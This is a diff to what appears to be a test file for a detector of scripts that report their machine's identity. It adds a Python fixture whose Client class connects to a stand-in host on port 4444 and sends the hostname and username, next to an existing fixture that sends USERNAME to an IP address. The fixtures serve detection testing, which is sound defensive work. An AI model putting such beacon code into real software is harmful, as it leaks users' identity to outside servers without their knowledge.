@@ -45,6 +45,16 @@ testOnFacts([scriptReportsItsMachine], {
         'import os, requests',
         'requests.get("http://192.0.2.7/?u=" + os.environ["USERNAME"])',
       ),
+      'by a class of its own, to one of the servers that the file names': python(
+        'import socket, getpass',
+        'HOSTS = ["cd.collect.example", "ce.collect.example"]',
+        'class Client:',
+        '    def start(self, number):',
+        '        self.sock = socket.socket()',
+        '        self.sock.connect((HOSTS[number], 4444))',
+        '        name = socket.gethostname() + "|" + getpass.getuser()',
+        '        self.sock.sendall(name.encode())',
+      ),
     },
     misses: {
       'the host alone, to a server with a name': python(
